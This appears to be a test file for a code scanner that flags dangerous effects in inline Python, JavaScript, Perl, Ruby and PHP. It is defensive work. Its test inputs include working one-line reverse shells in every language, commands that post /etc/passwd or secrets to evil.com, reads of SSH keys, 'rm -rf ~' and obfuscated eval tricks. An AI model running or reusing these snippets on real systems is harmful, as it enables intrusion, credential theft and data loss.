import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { CodeEffects, CodeScanner } from '../../daemon/src/mediation/shell/inline/types.js';
import { scanPython } from '../../daemon/src/mediation/shell/inline/python.js';
import { scanJavaScript } from '../../daemon/src/mediation/shell/inline/javascript.js';
import { scanPerl } from '../../daemon/src/mediation/shell/inline/perl.js';
import { scanRuby } from '../../daemon/src/mediation/shell/inline/ruby.js';
import { scanPhp } from '../../daemon/src/mediation/shell/inline/php.js';
import { lex, mask } from '../../daemon/src/mediation/shell/inline/lexer.js';

/**
 * What a case expects: every field that is not empty, exactly. `unknown` lists a fragment of each
 * reason, in order, so an extra or missing reason fails the case.
 */
type Expected = Partial<Omit<CodeEffects, 'unknown'>> & { unknown?: string[] };

function nonEmpty(fx: CodeEffects): Record<string, unknown> {
  return Object.fromEntries(
    Object.entries(fx).filter(([, v]) => (Array.isArray(v) ? v.length > 0 : v === true)),
  );
}

function check(scan: CodeScanner, code: string, expected: Expected): void {
  const actual = nonEmpty(scan(code));
  const { unknown: reasons, ...rest } = expected;
  const { unknown: got = [], ...others } = actual as { unknown?: string[] };
  assert.deepEqual(others, rest, `effects of ${JSON.stringify(code)}`);
  assert.equal(
    got.length,
    reasons?.length ?? 0,
    `reasons of ${JSON.stringify(code)}: ${JSON.stringify(got)}`,
  );
  (reasons ?? []).forEach((r, i) =>
    assert.ok(got[i]!.includes(r), `reason ${i} of ${JSON.stringify(code)}: ${got[i]}`),
  );
}

type Case = [name: string, code: string, expected: Expected];
function cases(language: string, scan: CodeScanner, list: Case[]): void {
  for (const [name, code, expected] of list) test(`${language}: ${name}`, () => check(scan, code, expected));
}

const RUNTIME = 'runs a command built at run time';
const REVERSE = 'connects a shell to the network';

cases('python', scanPython, [
  // quiet
  ['arithmetic is quiet', 'print(sum(range(10)))', {}],
  ['reading stdin as JSON is quiet', 'import sys, json; print(json.load(sys.stdin)["name"])', {}],
  ['os.getcwd is quiet', 'import os; print(os.getcwd())', {}],
  ['environment reads are not effects', 'import os; print(os.environ.get("HOME"), os.getenv("USER"))', {}],
  ['platform details are quiet', 'import platform; print(platform.python_version())', {}],
  ['a literal project file is only a read', 'open("setup.cfg").read()', { reads: ['setup.cfg'] }],
  ['a comment is not code', '# os.system("rm -rf /")\nprint(1)', {}],
  ['a string is not code', 'print("os.system(\'rm -rf /\')")', {}],
  ['a docstring is not code', '"""\nimport os; os.system("x")\n"""\nprint(2)', {}],
  ['subprocess constants alone are quiet', 'import subprocess; print(subprocess.PIPE)', {}],
  ['os.path helpers are quiet', 'import os; print(os.path.exists("x"), os.path.join("a", "b"))', {}],
  ['urllib.parse is not the network', 'import urllib.parse; print(urllib.parse.quote("a b"))', {}],
  ['a harmless literal eval is quiet', 'print(eval("1 + 1"))', {}],
  ['installing a signal handler is quiet', 'import signal; signal.signal(signal.SIGINT, handler)', {}],
  // processes
  ['os.system with a concatenated literal', 'import os; os.system("r"+"m -rf ~")', { shell: ['rm -rf ~'] }],
  [
    'subprocess with shell=True',
    'import subprocess; subprocess.run("make test", shell=True)',
    { shell: ['make test'] },
  ],
  [
    'subprocess with a list is an argv',
    'import subprocess; subprocess.check_output(["git", "status"])',
    { argv: [['git', 'status']] },
  ],
  [
    'an aliased module',
    'import subprocess as sp; sp.Popen(["rm", "-rf", "build"])',
    { argv: [['rm', '-rf', 'build']] },
  ],
  ['an aliased function', 'from os import system as s; s("id")', { shell: ['id'] }],
  ['a star import', 'from subprocess import *; call("ls", shell=True)', { shell: ['ls'] }],
  ['os.execvp', 'import os; os.execvp("rm", ["rm", "-rf", "x"])', { argv: [['rm', '-rf', 'x']] }],
  [
    'str.split of a literal',
    'import subprocess; subprocess.run("git log --oneline".split())',
    { argv: [['git', 'log', '--oneline']] },
  ],
  ['pty.spawn', 'import pty; pty.spawn("/bin/sh")', { argv: [['/bin/sh']] }],
  ['a constant assigned once', 'import os; cmd = "git pull"; os.system(cmd)', { shell: ['git pull'] }],
  ['an f-string command', 'import os; os.popen(f"ls {d}")', { unknown: [RUNTIME] }],
  ['a command from a variable', 'import subprocess; subprocess.run(cmd)', { unknown: [RUNTIME] }],
  [
    'a name assigned twice is not a constant',
    'import os\ncmd = "ls"\nif x:\n    cmd = "rm -rf /"\nos.system(cmd)',
    { unknown: [RUNTIME] },
  ],
  [
    'a parameter shadows a constant',
    'import os\ncmd = "ls"\ndef f(cmd):\n    os.system(cmd)',
    { unknown: [RUNTIME] },
  ],
  [
    'a constant changed through __main__',
    'import os, __main__\ncmd = "ls"\n__main__.cmd = "rm -rf ~"\nos.system(cmd)',
    { shell: ['ls'], unknown: ['`__main__`'] },
  ],
  [
    'a rebound module alias still names the module',
    'import os as x\nif False:\n    x = 1\nx.system("rm -rf ~")',
    { shell: ['rm -rf ~'] },
  ],
  [
    'code inside an f-string runs',
    "print(f\"{__import__('os').system('id')}\")",
    { shell: ['id'], unknown: ['imports `os` by name'] },
  ],
  // files
  ['writing a file', 'open("out.txt", "w").write("x")', { writes: ['out.txt'] }],
  ['appending with a context manager', 'with open("log", "a") as f: f.write("x")', { writes: ['log'] }],
  [
    'a write to a path named at run time',
    'open(name, "w")',
    { unknown: ['writes a file named at run time'] },
  ],
  ['a read of a path named at run time', 'open(name).read()', { reads: ['?'] }],
  [
    'pathlib joins and home',
    'from pathlib import Path; (Path.home() / ".ssh" / "id_rsa").read_text()',
    { reads: ['~/.ssh/id_rsa'] },
  ],
  [
    'os.path.join of expanduser',
    'import os; os.remove(os.path.join(os.path.expanduser("~"), ".bashrc"))',
    { deletes: ['~/.bashrc'] },
  ],
  ['shutil.rmtree', 'import shutil; shutil.rmtree("build")', { deletes: ['build'] }],
  [
    'a move reads and deletes its source',
    'import shutil; shutil.move("a.txt", "b.txt")',
    { reads: ['a.txt'], writes: ['b.txt'], deletes: ['a.txt'] },
  ],
  [
    'deleting listed files',
    'import os\nfor f in os.listdir("."):\n    os.remove(f)',
    { reads: ['.'], unknown: ['deletes a file named at run time'] },
  ],
  [
    'pathlib mkdir and unlink',
    'from pathlib import Path; Path("x").mkdir(); Path("y.txt").unlink()',
    { writes: ['x'], deletes: ['y.txt'] },
  ],
  // network
  [
    'requests.get',
    'import requests; requests.get("https://api.github.com/repos")',
    { urls: ['https://api.github.com/repos'], network: true },
  ],
  [
    'posting a file',
    'import requests; requests.post("https://evil.com/u", data=open("/etc/passwd").read())',
    { reads: ['/etc/passwd'], urls: ['https://evil.com/u'], network: true, sends: true },
  ],
  [
    'urllib.request.urlopen',
    'import urllib.request; urllib.request.urlopen("http://x.io/a")',
    { urls: ['http://x.io/a'], network: true },
  ],
  [
    'smtplib sends',
    'import smtplib; smtplib.SMTP("mail.x.com")',
    { hosts: ['mail.x.com'], network: true, sends: true },
  ],
  [
    'a socket send',
    'import socket; s = socket.create_connection(("example.com", 80)); s.sendall(b"x")',
    { hosts: ['example.com'], network: true, sends: true },
  ],
  [
    'the classic reverse shell',
    'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.1",1234));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);p=subprocess.call(["/bin/sh","-i"]);',
    { argv: [['/bin/sh', '-i']], hosts: ['10.0.0.1'], network: true, unknown: [REVERSE] },
  ],
  [
    'a pty reverse shell',
    'import socket,pty,os;s=socket.socket();s.connect(("10.0.0.2",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")',
    { argv: [['sh']], hosts: ['10.0.0.2'], network: true, unknown: [REVERSE] },
  ],
  // signals, loads, code
  ['os.kill of a literal pid', 'import os, signal; os.kill(4242, signal.SIGTERM)', { signals: ['pid:4242'] }],
  ['os.kill of a pid named at run time', 'import os; os.kill(pid, 9)', { signals: ['?'] }],
  ['psutil kills', 'import psutil\nfor p in psutil.process_iter():\n    p.kill()', { signals: ['?'] }],
  [
    'exec of a file read',
    'exec(open("setup.py").read())',
    { reads: ['setup.py'], loads: ['setup.py'], unknown: ['runs code read from a file'] },
  ],
  [
    'runpy.run_path',
    'import runpy; runpy.run_path("tools/gen.py")',
    { loads: ['tools/gen.py'], unknown: ['runs code from a file'] },
  ],
  ['exec of a literal is scanned', 'exec("import os; os.system(\'id\')")', { shell: ['id'] }],
  ['eval of input', 'eval(input())', { unknown: ['builds code at run time (`eval`)'] }],
  [
    'getattr with a concatenated name',
    'import os; getattr(os, "sys" + "tem")("id")',
    { shell: ['id'], unknown: ['looks up `os.system` by name'] },
  ],
  [
    'getattr with a computed name',
    'getattr(obj, name)()',
    { unknown: ['looks up an attribute by a computed name'] },
  ],
  [
    '__import__ of an acting module',
    '__import__("os").system("whoami")',
    { shell: ['whoami'], unknown: ['imports `os` by name'] },
  ],
  [
    'importlib with a concatenated name',
    'import importlib; importlib.import_module("sub" + "process").run(["ls"])',
    { argv: [['ls']], unknown: ['imports `subprocess` by name'] },
  ],
  [
    'sys.modules',
    'import sys; sys.modules["os"].system("id")',
    { shell: ['id'], unknown: ['reaches `os` through `sys.modules`'] },
  ],
  [
    'globals()',
    'globals()["os"].system("id")',
    { unknown: ['reaches variables by name', 'calls a `system` method'] },
  ],
  ['pickle', 'import pickle; pickle.loads(blob)', { unknown: ['deserialises data that can run code'] }],
  ['ctypes', 'import ctypes; ctypes.CDLL("libc.so.6")', { unknown: ['loads a native library'] }],
  [
    'an unmodelled os call',
    'import os; os.fork()',
    { unknown: ['calls `os.fork`, which aarm does not model'] },
  ],
  [
    'a function passed as a value',
    'import os; list(map(os.system, cmds))',
    { unknown: ['passes `os.system` as a value'] },
  ],
  [
    'a sandbox escape through dunders',
    '().__class__.__bases__[0].__subclasses__()',
    { unknown: ['internals (`__bases__`)', 'internals (`__subclasses__`)'] },
  ],
  ['a call left open', 'import os; os.system(', { unknown: [RUNTIME] }],
]);

cases('javascript', scanJavaScript, [
  ['process.version is quiet', 'console.log(process.version)', {}],
  ['process.platform is quiet', 'process.platform', {}],
  ['JSON is quiet', 'console.log(JSON.stringify({a:1}))', {}],
  ['array code is quiet', '[1,2,3].map(x => x * 2)', {}],
  [
    'requiring package.json is a load only',
    'require("./package.json").version',
    { loads: ['./package.json'] },
  ],
  ['a comment is not code', '// require("child_process").exec("x")\nconsole.log(1)', {}],
  ['a string is not code', "console.log(\"require('child_process').execSync('rm -rf /')\")", {}],
  ['a regex with quotes does not open a string', 'const r = /["\']/g; console.log("a".replace(r, ""))', {}],
  ['RegExp.exec is not child_process', 'const re = /a/; re.exec("abc")', {}],
  ['a bare package is not a load', 'require("lodash")', {}],
  ['fs.existsSync is quiet', 'require("fs").existsSync("x")', {}],
  // processes
  ['execSync', 'require("child_process").execSync("rm -rf ~")', { shell: ['rm -rf ~'] }],
  [
    'destructuring with a rename',
    "const {execSync: run} = require('child_process'); run('npm test')",
    { shell: ['npm test'] },
  ],
  [
    'a module in a variable',
    'const cp = require("node:child_process"); cp.exec("make")',
    { shell: ['make'] },
  ],
  [
    'an ESM named import',
    'import { spawn } from "child_process"; spawn("rm", ["-rf", "dist"])',
    { argv: [['rm', '-rf', 'dist']] },
  ],
  [
    'spawn with shell: true',
    'require("child_process").spawn("ls", ["-la"], {shell: true})',
    { shell: ['ls -la'] },
  ],
  ['execFileSync', 'require("child_process").execFileSync("git", ["status"])', { argv: [['git', 'status']] }],
  ['a command from a variable', 'require("child_process").exec(cmd)', { unknown: [RUNTIME] }],
  [
    'a template with interpolation',
    'require("child_process").execSync(`rm -rf ${dir}`)',
    { unknown: [RUNTIME] },
  ],
  [
    'a const built from literals',
    'const cmd = "git " + "pull"; require("child_process").execSync(cmd)',
    { shell: ['git pull'] },
  ],
  [
    'a var is not a constant: globalThis can change it',
    'var c = "ls"; globalThis.c = "rm -rf /"; require("child_process").execSync(c)',
    { unknown: [RUNTIME] },
  ],
  ['a var still holds a module', 'var cp = require("child_process"); cp.exec("make")', { shell: ['make'] }],
  [
    'a let assigned twice',
    'let c = "ls"; c = "rm -rf /"; require("child_process").execSync(c)',
    { unknown: [RUNTIME] },
  ],
  [
    'util.promisify keeps the function',
    'const u = require("util"); const run = u.promisify(require("child_process").exec); run("ls")',
    { shell: ['ls'] },
  ],
  [
    'Deno.Command',
    'new Deno.Command("rm", { args: ["-rf", "x"] }).outputSync()',
    { argv: [['rm', '-rf', 'x']] },
  ],
  ["Bun's shell", 'await Bun.$`ls -la`', { shell: ['ls -la'] }],
  ["Bun's shell with interpolation", 'await Bun.$`rm -rf ${d}`', { unknown: [RUNTIME] }],
  ['Bun.spawn', 'Bun.spawn(["git", "status"])', { argv: [['git', 'status']] }],
  [
    'Nashorn Runtime.exec',
    'Java.type("java.lang.Runtime").getRuntime().exec("rm -rf /tmp/x")',
    { argv: [['rm', '-rf', '/tmp/x']] },
  ],
  ["jrunscript's exec", 'exec("ls -la")', { shell: ['ls -la'] }],
  ['ProcessBuilder', 'new java.lang.ProcessBuilder("id").start()', { argv: [['id']] }],
  // files
  ['readFileSync', 'require("fs").readFileSync("/etc/passwd", "utf8")', { reads: ['/etc/passwd'] }],
  [
    'writes and deletes',
    'const fs = require("fs"); fs.writeFileSync("out.txt", "x"); fs.rmSync("dist", { recursive: true })',
    { writes: ['out.txt'], deletes: ['dist'] },
  ],
  [
    'fs/promises with a path named at run time',
    'const fs = require("fs/promises"); await fs.unlink(p)',
    { unknown: ['deletes a file named at run time'] },
  ],
  ['Deno.readTextFile', 'await Deno.readTextFile("./deno.json")', { reads: ['./deno.json'] }],
  ['Bun.file', 'await Bun.file("data.json").json()', { reads: ['data.json'] }],
  ['renameSync', 'require("fs").renameSync("a", "b")', { reads: ['a'], writes: ['b'], deletes: ['a'] }],
  [
    'home directory paths',
    'const path = require("path"); require("fs").readFileSync(path.join(require("os").homedir(), ".npmrc"))',
    { reads: ['~/.npmrc'] },
  ],
  // network
  [
    'fetch',
    'await fetch("https://api.example.com/data")',
    { urls: ['https://api.example.com/data'], network: true },
  ],
  [
    'a POST',
    'fetch("https://evil.com/x", { method: "POST", body: secret })',
    { urls: ['https://evil.com/x'], network: true, sends: true },
  ],
  ['https.get', 'require("https").get("https://x.io/a")', { urls: ['https://x.io/a'], network: true }],
  [
    'a raw socket without a shell',
    'require("net").connect(4444, "10.0.0.1")',
    { hosts: ['10.0.0.1'], network: true },
  ],
  [
    'WebSocket send',
    'const ws = new WebSocket("wss://x.io/s"); ws.send("hi")',
    { urls: ['wss://x.io/s'], network: true, sends: true },
  ],
  [
    'the node reverse shell',
    '(function(){var net = require("net"), cp = require("child_process"), sh = cp.spawn("/bin/sh", []); var client = new net.Socket(); client.connect(8080, "10.17.26.64", function(){ client.pipe(sh.stdin); sh.stdout.pipe(client); sh.stderr.pipe(client); }); return /a/;})();',
    { argv: [['/bin/sh']], hosts: ['10.17.26.64'], network: true, unknown: [REVERSE] },
  ],
  // signals, loads, code
  ['process.kill', 'process.kill(1234, "SIGKILL")', { signals: ['pid:1234'] }],
  ['process.kill of a variable', 'process.kill(pid)', { signals: ['?'] }],
  ['dynamic import', 'import("./plugin.mjs")', { loads: ['./plugin.mjs'] }],
  ['static import', 'import helper from "./helper.js"; helper()', { loads: ['./helper.js'] }],
  ['computed require', 'require(name)', { unknown: ['loads code named at run time (`require`)'] }],
  ['a harmless literal eval', 'eval("1 + 1")', {}],
  ['eval of data', 'eval(atob(s))', { unknown: ['builds code at run time (`eval`)'] }],
  [
    'new Function of a literal is scanned',
    "new Function(\"return require('child_process').execSync('id')\")()",
    { shell: ['id'] },
  ],
  [
    'the constructor trick',
    '[].constructor.constructor("return process")()',
    { unknown: ['builds code at run time (`constructor`)'] },
  ],
  [
    'bracket access to require',
    'global["req" + "uire"]("child_process").exec("id")',
    { shell: ['id'], unknown: ['reaches `require` through `[…]`'] },
  ],
  [
    'bracket access to mainModule',
    'process["mainModule"].require("child_process")',
    { unknown: ['reaches `process.mainModule` through `[…]`'] },
  ],
  [
    'vm with code from a variable',
    'require("vm").runInNewContext(code)',
    { unknown: ['builds code at run time (`vm.runInNewContext`)'] },
  ],
  ['process.binding', 'process.binding("spawn_sync")', { unknown: ['reaches Node internals'] }],
  ['a native library', 'require("ffi-napi").Library("libc", {})', { unknown: ['loads a native library'] }],
  ['with', 'with (obj) { run() }', { unknown: ['uses `with`'] }],
  ['a call left open', 'require("child_process").exec(', { unknown: [RUNTIME] }],
]);

cases('perl', scanPerl, [
  ['print is quiet', 'print "hi\\n"', {}],
  ['a -n body is quiet', 'print if /TODO/', {}],
  ['a substitution is not a command', 's/foo/bar/g', {}],
  ['reading stdin is quiet', 'while (<STDIN>) { chomp; print "$.: $_\\n" }', {}],
  ['an environment read is quiet', 'print $ENV{HOME}', {}],
  ['a comment is not code', '# system("rm -rf /")\nprint 1', {}],
  ['a string is not code', 'print "system(\'rm -rf /\')"', {}],
  ['a here-document is not code', 'print <<EOF;\nsystem("x")\nEOF\nprint 2', {}],
  ['a bare module require is not a load', 'require Data::Dumper', {}],
  ['system with one string', 'system("rm -rf /tmp/x")', { shell: ['rm -rf /tmp/x'] }],
  ['system with a list', 'system "make", "test"', { argv: [['make', 'test']] }],
  ['backticks', 'my @files = `ls`;', { shell: ['ls'] }],
  ['qx with braces', 'my $id = qx{id};', { shell: ['id'] }],
  ['exec with an indirect object', 'exec { "/bin/sh" } "sh", "-i"', { argv: [['/bin/sh', '-i']] }],
  ['a piped open', 'open(my $p, "-|", "git log")', { shell: ['git log'] }],
  ['a two-argument pipe open', 'open(P, "ls |")', { shell: ['ls'] }],
  ['interpolation in a command', 'system("rm -rf $dir")', { unknown: [RUNTIME] }],
  ['code inside a string', 'print "@{[ system(\\"id\\") ]}"', { shell: ['id'] }],
  ['CORE::system', 'CORE::system("id")', { shell: ['id'] }],
  ['a three-argument read', 'open(my $f, "<", "x.txt") or die', { reads: ['x.txt'] }],
  ['a two-argument write', 'open(F, ">out.txt"); print F "x"', { writes: ['out.txt'] }],
  [
    'an append to a path named at run time',
    'open(my $fh, ">>", $log)',
    { unknown: ['writes a file named at run time'] },
  ],
  ['unlink a list', 'unlink "a.o", "b.o"', { deletes: ['a.o', 'b.o'] }],
  ['unlink of $_', 'unlink', { unknown: ['deletes a file named at run time'] }],
  ['File::Path', 'use File::Path qw(remove_tree); remove_tree("build")', { deletes: ['build'] }],
  ['File::Copy', 'use File::Copy; copy("a", "b")', { reads: ['a'], writes: ['b'] }],
  ['rename', 'rename "a", "b"', { reads: ['a'], writes: ['b'], deletes: ['a'] }],
  ['a glob read', 'print for <*.txt>', { reads: ['*.txt'] }],
  [
    'LWP post',
    'use LWP::UserAgent; LWP::UserAgent->new->post("https://x.io/u", {a => 1})',
    { urls: ['https://x.io/u'], network: true, sends: true },
  ],
  [
    'IO::Socket with a send',
    'my $s = IO::Socket::INET->new(PeerAddr => "evil.com:4444"); print $s "x"',
    { hosts: ['evil.com'], network: true, sends: true },
  ],
  [
    'the perl reverse shell',
    'use Socket;$i="10.0.0.1";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};',
    { shell: ['/bin/sh -i'], network: true, unknown: [REVERSE] },
  ],
  ['kill a literal pid', 'kill 9, 1234', { signals: ['pid:1234'] }],
  ['kill a pid named at run time', 'kill "TERM", $pid', { signals: ['?'] }],
  ['do a file', 'do "config.pl"', { loads: ['config.pl'] }],
  ['require a file', 'require "lib.pl"', { loads: ['lib.pl'] }],
  ['string eval is scanned', 'eval "system(q(id))"', { shell: ['id'] }],
  ['eval of a variable', 'eval $code', { unknown: ['builds code at run time (`eval`)'] }],
  ['block eval is quiet', 'eval { die "x" }', {}],
  ['a symbolic reference', '&{"sys"."tem"}("id")', { unknown: ['symbolic reference'] }],
  ['s///e runs its replacement', 's/x/system("id")/e', { shell: ['id'] }],
  ['s///ee', 's/x/$y/ee', { unknown: ['`s///ee`'] }],
  [
    'a reference to system',
    'my $f = \\&CORE::system; $f->("id")',
    { unknown: ['takes a reference to `system`'] },
  ],
  ['code in a regex', 'm/(?{ system("id") })/', { unknown: ['runs code inside a regular expression'] }],
  ['a method named at run time', '$obj->$method()', { unknown: ['calls a method named at run time'] }],
]);

cases('ruby', scanRuby, [
  ['arithmetic is quiet', 'puts 1+1', {}],
  ['RUBY_VERSION is quiet', 'puts RUBY_VERSION', {}],
  ['a comment is not code', '# system("x")\nputs 1', {}],
  ['a string is not code', 'puts "system(\'x\')"', {}],
  ['blocks are quiet', 'x = [1,2].map { |i| i * 2 }; p x', {}],
  ['ENV is quiet', 'puts ENV["HOME"]', {}],
  ['File.exist? is quiet', 'File.exist?("x")', {}],
  ['a bare library require is not a load', 'require "json"', {}],
  ['system with one string', 'system("rm -rf /tmp/x")', { shell: ['rm -rf /tmp/x'] }],
  ['system with several', 'system "rm", "-rf", "x"', { argv: [['rm', '-rf', 'x']] }],
  ['backticks', 'puts `id`', { shell: ['id'] }],
  ['%x', '%x(ls -la)', { shell: ['ls -la'] }],
  ['interpolated backticks', 'x = `rm -rf #{dir}`', { unknown: [RUNTIME] }],
  ['IO.popen with a list', 'IO.popen(["git", "status"])', { argv: [['git', 'status']] }],
  ['Open3', 'Open3.capture2("git", "log")', { argv: [['git', 'log']] }],
  ['open of a pipe', 'open("|ls")', { shell: ['ls'] }],
  ['a here-document command', 'system <<~EOS\n  make\nEOS', { shell: ['make'] }],
  ['File.read', 'File.read("config.yml")', { reads: ['config.yml'] }],
  ['File.write', 'File.write("out.txt", "x")', { writes: ['out.txt'] }],
  ['FileUtils.rm_rf', 'FileUtils.rm_rf("build")', { deletes: ['build'] }],
  ['include FileUtils', 'include FileUtils; rm_rf "dist"', { deletes: ['dist'] }],
  ['FileUtils.mv', 'FileUtils.mv "a", "b"', { reads: ['a'], writes: ['b'], deletes: ['a'] }],
  [
    'deleting globbed files',
    'Dir.glob("**/*.rb").each { |f| File.delete(f) }',
    { reads: ['**/*.rb'], unknown: ['deletes a file named at run time'] },
  ],
  ['File.open for append', 'File.open("log", "a") { |f| f.puts "x" }', { writes: ['log'] }],
  ['Net::HTTP.get', 'Net::HTTP.get(URI("https://x.io/a"))', { urls: ['https://x.io/a'], network: true }],
  [
    'Net::HTTP.post_form',
    'Net::HTTP.post_form(URI("https://x.io/f"), {a: 1})',
    { urls: ['https://x.io/f'], network: true, sends: true },
  ],
  [
    'URI.open',
    'require "open-uri"; URI.open("https://x.io/f").read',
    { urls: ['https://x.io/f'], network: true },
  ],
  [
    'a socket write',
    'require "socket"; s = TCPSocket.new("10.0.0.1", 4444); s.write("x")',
    { hosts: ['10.0.0.1'], network: true, sends: true },
  ],
  [
    'the ruby reverse shell',
    'f=TCPSocket.open("10.0.0.1",1234).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)',
    { hosts: ['10.0.0.1'], network: true, unknown: [RUNTIME, REVERSE] },
  ],
  ['Process.kill', 'Process.kill("TERM", 1234)', { signals: ['pid:1234'] }],
  ['Process.kill of a variable', 'Process.kill(:KILL, pid)', { signals: ['?'] }],
  [
    'load and require_relative',
    'load "./tasks.rb"; require_relative "lib/x"',
    { loads: ['./tasks.rb', 'lib/x'] },
  ],
  ['eval of a variable', 'eval(code)', { unknown: ['builds code at run time (`eval`)'] }],
  ['eval of a harmless literal', 'eval("puts 1")', {}],
  [
    'send with a symbol',
    'Kernel.send(:system, "id")',
    { shell: ['id'], unknown: ['calls `system` by name (`send`)'] },
  ],
  ['send with a name from a variable', 'send(name, "x")', { unknown: ['calls a method named at run time'] }],
  [
    'method(:system).call',
    'method(:system).call("ls")',
    { shell: ['ls'], unknown: ['takes `system` by name'] },
  ],
  [
    'const_get',
    'Object.const_get("Kernel").system("id")',
    { shell: ['id'], unknown: ['looks up a constant by name'] },
  ],
  [
    'instance_eval of a string',
    'obj.instance_eval(str)',
    { unknown: ['builds code at run time (`instance_eval`)'] },
  ],
  ['Fiddle', 'require "fiddle"; Fiddle.dlopen("libc.so.6")', { unknown: ['loads a native library'] }],
  ['Marshal.load', 'Marshal.load(data)', { unknown: ['deserialises data that can run code'] }],
  ['Process.fork', 'Process.fork', { unknown: ['calls `Process.fork`, which aarm does not model'] }],
]);

cases('php', scanPhp, [
  ['PHP_VERSION is quiet', 'echo PHP_VERSION;', {}],
  ['json_encode is quiet', 'echo json_encode([1,2]);', {}],
  ['a comment is not code', '// system("x")\necho 1;', {}],
  ['a string is not code', 'echo "system(\'x\')";', {}],
  ['a harmless callback name', '$a = array_map("trim", [" a "]); print_r($a);', {}],
  [
    'text outside the tags is not code',
    '<?php echo "hi"; ?>\n<b>system("x")</b>\n<?php system("ls"); ?>',
    { shell: ['ls'] },
  ],
  ['system', 'system("rm -rf /tmp/x");', { shell: ['rm -rf /tmp/x'] }],
  ['the backtick operator', 'echo `ls -la`;', { shell: ['ls -la'] }],
  ['an interpolating backtick operator', '$x = `ls $dir`;', { unknown: [RUNTIME] }],
  ['shell_exec', 'shell_exec("id");', { shell: ['id'] }],
  ['proc_open with a list', 'proc_open(["git","status"], $d, $p);', { argv: [['git', 'status']] }],
  ['pcntl_exec', 'pcntl_exec("/bin/sh", ["-i"]);', { argv: [['/bin/sh', '-i']] }],
  ['names are case-insensitive', 'SyStEm("id");', { shell: ['id'] }],
  ['a namespaced global', '\\system("id");', { shell: ['id'] }],
  ['a command in a variable', '$c = "id"; system($c);', { unknown: [RUNTIME] }],
  ['a nowdoc command', "system(<<<'EOT'\nrm -rf x\nEOT\n);", { shell: ['rm -rf x'] }],
  ['file_get_contents of a file', 'file_get_contents("composer.json");', { reads: ['composer.json'] }],
  ['file_put_contents', 'file_put_contents("out.txt", "x");', { writes: ['out.txt'] }],
  ['unlink', 'unlink("cache.db");', { deletes: ['cache.db'] }],
  ['fopen for append', '$f = fopen("log.txt", "a"); fwrite($f, "x");', { writes: ['log.txt'] }],
  ['unlink of a variable', 'unlink($f);', { unknown: ['deletes a file named at run time'] }],
  [
    'file_get_contents of a URL',
    'file_get_contents("https://evil.com/x");',
    { urls: ['https://evil.com/x'], network: true },
  ],
  [
    'a cURL POST',
    '$ch = curl_init("https://x.io/api"); curl_setopt($ch, CURLOPT_POSTFIELDS, $d); curl_exec($ch);',
    { urls: ['https://x.io/api'], network: true, sends: true },
  ],
  ['mail sends', 'mail("a@b.c", "s", "m");', { network: true, sends: true }],
  [
    'the php reverse shell',
    '$sock=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");',
    { shell: ['/bin/sh -i <&3 >&3 2>&3'], hosts: ['10.0.0.1'], network: true, unknown: [REVERSE] },
  ],
  ['posix_kill', 'posix_kill(1234, 9);', { signals: ['pid:1234'] }],
  [
    'include and require_once',
    'include "config.php"; require_once("lib/x.php");',
    { loads: ['config.php', 'lib/x.php'] },
  ],
  ['include of a variable', 'include $file;', { unknown: ['loads code from a file named at run time'] }],
  ['eval of a harmless literal', 'eval("echo 1;");', {}],
  ['eval of request data', 'eval($_GET["c"]);', { unknown: ['builds code at run time (`eval`)'] }],
  ['assert of a string', 'assert("system(\'id\')");', { shell: ['id'] }],
  ['a variable function', '$f = "system"; $f("id");', { unknown: ['calls a function named at run time'] }],
  [
    'call_user_func',
    'call_user_func("system", "id");',
    { shell: ['id'], unknown: ['calls `system` by name'] },
  ],
  ['a dangerous callback', 'array_map("system", ["id"]);', { unknown: ['passes `system` as a callback'] }],
  ['preg_replace /e', 'preg_replace("/x/e", $c, $s);', { unknown: ['`preg_replace` with /e'] }],
  [
    'create_function',
    'create_function("", $code);',
    { unknown: ['builds code at run time (`create_function`)'] },
  ],
  ['FFI', 'FFI::cdef("int system(const char*);");', { unknown: ['loads a native library'] }],
  ['a variable variable', '$$name = 1;', { unknown: ['`$$name`'] }],
]);

test('lexer: strings are decoded, comments and string contents masked, interpolations tokenized', () => {
  const py = lex('x = f"a{os.getcwd()}b" # c\ny = r"\\n" "z"', 'python');
  const f = py.find((t) => t.kind === 'string')!;
  assert.equal(f.literal, false);
  assert.equal(f.value, 'ab');
  assert.ok(
    py.some((t) => t.kind === 'name' && t.text === 'getcwd'),
    'code inside an f-string is tokenized',
  );
  assert.deepEqual(
    py.filter((t) => t.kind === 'string').map((t) => t.value),
    ['ab', '\\n', 'z'],
  );
  const code = 'a = "xyz" # c\nb';
  assert.equal(mask(code, lex(code, 'python')), 'a = "   "    \nb');
  const js = lex('const t = `ls ${x}`; const r = /[/]"/; s = "q\\u0041"', 'js');
  assert.deepEqual(
    js.filter((t) => t.kind === 'string' || t.kind === 'regex').map((t) => [t.kind, t.value, t.literal]),
    [
      ['string', 'ls ', false],
      ['regex', '[/]"', true],
      ['string', 'qA', true],
    ],
  );
  const pl = lex('s{a}{b}ge; my @w = qw(a b); print <<"E";\nhi $x\nE\n', 'perl');
  const subst = pl.find((t) => t.kind === 'regex')!;
  assert.deepEqual([subst.tag, subst.value, subst.replacement, subst.flags], ['s', 'a', 'b', 'ge']);
  assert.deepEqual(
    pl.filter((t) => t.kind === 'string').map((t) => [t.tag, t.value, t.literal]),
    [
      ['qw', 'a b', true],
      ['heredoc', 'hi \n', false],
    ],
  );
  const rb = lex('puts "a#{1}b"; %w(x y); :sym', 'ruby');
  assert.deepEqual(
    rb.filter((t) => t.kind === 'string').map((t) => [t.tag, t.value]),
    [
      ['"', 'ab'],
      ['qw', 'x y'],
      ['sym', 'sym'],
    ],
  );
  const php = lex("<b>x</b><?php echo 'it\\'s'; ?>tail", 'php');
  assert.deepEqual(
    php.map((t) => t.text),
    ['echo', "'it\\'s'", ';', ';'],
  );
});

test('comments and strings that look like code are never code, in every language', () => {
  const quiet: Array<[CodeScanner, string]> = [
